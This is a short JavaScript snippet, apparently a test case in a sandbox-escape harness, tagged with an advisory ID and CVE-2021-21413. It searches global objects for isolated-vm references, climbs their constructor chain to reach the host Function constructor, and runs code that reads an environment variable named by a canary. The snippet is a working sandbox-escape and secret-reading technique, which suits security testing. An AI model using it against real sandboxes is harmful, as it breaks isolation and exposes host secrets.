// GHSA-mmhj-4w6j-76h7 CVE-2021-21413
// A Reference gives the prototype chain of what it refers to.
for (const key of Reflect.ownKeys(globalThis)) {
    let value; try { value = globalThis[key]; } catch { continue; }
    if (!value || typeof value.getSync !== 'function') continue;
    try { const make = value.getSync('constructor').getSync('constructor'); note(make.applySync(null, ['return process.env.' + GOAL.canary]).applySync()); } catch {}
}
try { await useObject(codemode.constructor.derefInto()); } catch {}
return found;
